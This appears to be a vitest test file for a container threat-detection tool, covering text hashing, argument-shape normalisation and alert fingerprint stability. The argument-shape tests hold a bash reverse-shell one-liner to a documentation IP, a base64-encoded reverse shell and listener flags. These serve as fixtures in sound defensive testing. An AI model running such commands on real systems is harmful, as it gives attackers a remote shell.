import { describe, expect, it } from 'vitest';
import { argumentShape, fingerprint } from '../../src/detections/fingerprint.js';
import { scenario } from '../../src/detections/scenario.js';
import { caseOfScenario } from '../../src/detections/scenario-case.js';
import { textHash } from '../../src/detections/text-hash.js';
import type { Container } from '../../src/model/process.js';

describe('the hash of a text', () => {
  it.each([
    ['', 'cbf29ce484222325'],
    ['a', 'af63dc4c8601ec8c'],
    ['foobar', '85944171f73967e8'],
  ])('of "%s" is the published one', (text, hash) => {
    expect(textHash(text)).toBe(hash);
  });
});

describe('the shape of arguments', () => {
  it.each([
    ['-c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"', '-c "bash -i >& /dev/tcp/<address>/<n> <n>>&<n>"'],
    ['echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEw | base64 -d', 'echo <code> | base<n> -d'],
    ['  -l   -p 9001 ', '-l -p <n>'],
  ])('of %s is %s', (text, shape) => {
    expect(argumentShape(text)).toBe(shape);
  });
});

describe('a fingerprint', () => {
  const view = caseOfScenario(scenario('one process', '\n  container web\n  0   node server.js 8080'));
  const process = view.process(0);
  const container = view.container(0);
  if (process === undefined || container === undefined) throw new Error('the drawing holds both');
  const draft = { level: 'low', title: '', why: '', process, connections: [], related: [], evidence: [], members: [] } as const;
  const print = (changes: Partial<Container>) => fingerprint('rule', draft, { ...container, ...changes });

  it('stays the same when the pod is renamed, moves or restarts', () => {
    expect(print({ pod: 'web-7d9c5-x', node: 'node-2', containerId: 'other', id: 7 })).toBe(print({}));
  });

  it('differs between workloads and between rules', () => {
    expect(print({ workload: 'shop' })).not.toBe(print({ workload: 'blog' }));
    expect(fingerprint('other-rule', draft, container)).not.toBe(print({}));
  });

  it('stays the same when only numbers among the arguments change', () => {
    const other = { ...draft, process: { ...process, pid: 9, arguments: 'server.js 9090' } };
    expect(fingerprint('rule', other, container)).toBe(print({}));
  });
});
